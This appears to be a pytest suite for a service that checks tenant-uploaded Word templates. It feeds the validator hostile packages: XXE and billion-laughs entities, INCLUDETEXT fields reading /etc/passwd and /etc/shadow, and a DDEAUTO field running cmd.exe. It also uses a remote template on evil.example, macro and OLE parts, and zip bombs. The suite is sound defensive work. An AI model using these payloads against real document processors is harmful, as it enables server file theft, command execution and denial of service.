"""Hostile Word packages: what a tenant's template may hold besides its text. Each
attack is built here from a real built-in template, so that only the attack differs."""

import io
import zipfile

import pytest

from nastavnik.core import registry
from nastavnik.core.errors import InputError
from nastavnik.services import documents
from nastavnik.services.document_layout import template_bytes
from nastavnik.services.word_package import MAX_UNPACKED, check_word_package


def _builtin() -> bytes:
    spec = documents.regime_papers(registry.get("civil_service_2013"))["order"]
    return template_bytes(spec.template("ru"))


def _with(base: bytes, changes: dict[str, bytes], compression=zipfile.ZIP_DEFLATED) -> bytes:
    """``base`` with parts replaced or added."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(base)) as src, zipfile.ZipFile(out, "w", compression) as dst:
        for item in src.infolist():
            if item.filename not in changes:
                dst.writestr(item.filename, src.read(item.filename))
        for name, data in changes.items():
            dst.writestr(name, data)
    return out.getvalue()


def _part(base: bytes, name: str) -> bytes:
    with zipfile.ZipFile(io.BytesIO(base)) as z:
        return z.read(name)


def _refused(content: bytes, says: str) -> None:
    with pytest.raises(InputError) as e:
        check_word_package(content)
    assert e.value.field == "file" and says in str(e.value), str(e.value)


def test_every_builtin_template_is_a_plain_package():
    for regime_id in registry.available():
        for spec in documents.regime_papers(registry.get(regime_id)).values():
            for lang in ("ru", "kk", "en"):
                check_word_package(template_bytes(spec.template(lang)))


def test_linked_picture_of_a_server_file_is_refused():
    base = _builtin()
    rels = _part(base, "word/_rels/document.xml.rels").replace(
        b"</Relationships>",
        b'<Relationship Id="rIdX" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        b'relationships/image" Target="file:///etc/passwd" TargetMode="External"/>'
        b"</Relationships>")
    _refused(_with(base, {"word/_rels/document.xml.rels": rels}), "links to something outside")


def test_attached_template_on_another_host_is_refused():
    base = _builtin()
    rels = (b'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.'
            b'openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="'
            b'http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"'
            b' Target="\\\\evil.example\\share\\t.dotm" TargetMode="External"/></Relationships>')
    _refused(_with(base, {"word/_rels/settings.xml.rels": rels}), "links to something outside")


def test_web_hyperlink_is_allowed():
    base = _builtin()
    rels = _part(base, "word/_rels/document.xml.rels").replace(
        b"</Relationships>",
        b'<Relationship Id="rIdL" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        b'relationships/hyperlink" Target="https://adilet.zan.kz/" TargetMode="External"/>'
        b"</Relationships>")
    check_word_package(_with(base, {"word/_rels/document.xml.rels": rels}))


@pytest.mark.parametrize("field", [b'INCLUDETEXT "/etc/passwd"', b' INCLUDEPICTURE "file:///x"',
                                   b'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/c calc"',
                                   b'LINK Excel.Sheet.8 "/srv/other-tenant.xlsx" ""'])
def test_fields_that_read_files_or_programs_are_refused(field):
    base = _builtin()
    doc = _part(base, "word/document.xml").replace(
        b"</w:body>", b'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>'
        + field + b'</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
        b"</w:body>", 1)
    _refused(_with(base, {"word/document.xml": doc}), "field")


def test_simple_field_form_is_refused_too():
    base = _builtin()
    doc = _part(base, "word/document.xml").replace(
        b"</w:body>", b'<w:p><w:fldSimple w:instr="INCLUDETEXT &quot;/etc/shadow&quot;"/></w:p>'
        b"</w:body>", 1)
    _refused(_with(base, {"word/document.xml": doc}), "INCLUDETEXT")


def test_a_page_field_is_allowed():
    base = _builtin()
    doc = _part(base, "word/document.xml").replace(
        b"</w:body>", b'<w:p><w:fldSimple w:instr=" PAGE "/>'
        b'<w:fldSimple w:instr=\'HYPERLINK "https://example.org/link/include"\'/></w:p></w:body>', 1)
    check_word_package(_with(base, {"word/document.xml": doc}))


def test_entities_are_refused():
    base = _builtin()
    laughs = (b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 '
              b'"&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">]><w:document>&lol2;'
              b"</w:document>")
    _refused(_with(base, {"word/document.xml": laughs}), "entities")
    xxe = (b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
           b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">&x;'
           b"</Types>")
    _refused(_with(base, {"[Content_Types].xml": xxe}), "entities")


def test_macros_embedded_objects_and_alt_chunks_are_refused():
    base = _builtin()
    _refused(_with(base, {"word/vbaProject.bin": b"\0" * 100}), "macros")
    _refused(_with(base, {"word/embeddings/oleObject1.bin": b"\0" * 100}), "embedded")
    doc = _part(base, "word/document.xml").replace(
        b"</w:body>", b'<w:altChunk r:id="rIdA"/></w:body>', 1)
    _refused(_with(base, {"word/document.xml": doc}), "altChunk")


def test_zip_bomb_is_refused_without_inflating_it():
    base = _builtin()
    big = b"<w:p/>" * (MAX_UNPACKED // 6 + 10)  # deflates ~1000:1
    _refused(_with(base, {"word/bomb.xml": big}), "unpacks to more than")
    dense = b"A" * (5 * 1024 * 1024)
    _refused(_with(base, {"word/dense.xml": dense}), "zip bomb")


def test_not_a_word_file():
    _refused(b"PK\x03\x04 not really", "not a Word file")
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as z:
        z.writestr("hello.txt", "hi")
    _refused(out.getvalue(), "no document text")


def test_libreoffice_is_not_given_the_server_s_secrets(monkeypatch, tmp_path):
    """soffice opens a tenant's file: it gets PATH, locale and a HOME of its own, never the
    database URL or the secret key."""
    import subprocess

    from nastavnik.services import office

    seen = {}

    def run(command, **kwargs):
        seen.update(kwargs["env"])
        outdir = command[command.index("--outdir") + 1]
        (tmp_path / "done").write_text("x")
        with open(f"{outdir}/paper.pdf", "wb") as fh:
            fh.write(b"%PDF-1.4")
        return subprocess.CompletedProcess(command, 0, b"", b"")

    monkeypatch.setenv("SECRET_KEY", "do-not-leak")
    monkeypatch.setenv("DATABASE_URL", "postgresql://owner:pw@db/x")
    monkeypatch.setattr(office, "soffice", lambda: "/usr/bin/soffice")
    monkeypatch.setattr(office.subprocess, "run", run)
    assert office.to_pdf(_builtin()) == b"%PDF-1.4"
    assert "SECRET_KEY" not in seen and "DATABASE_URL" not in seen
    assert seen["PATH"] and seen["HOME"] != seen.get("PATH")
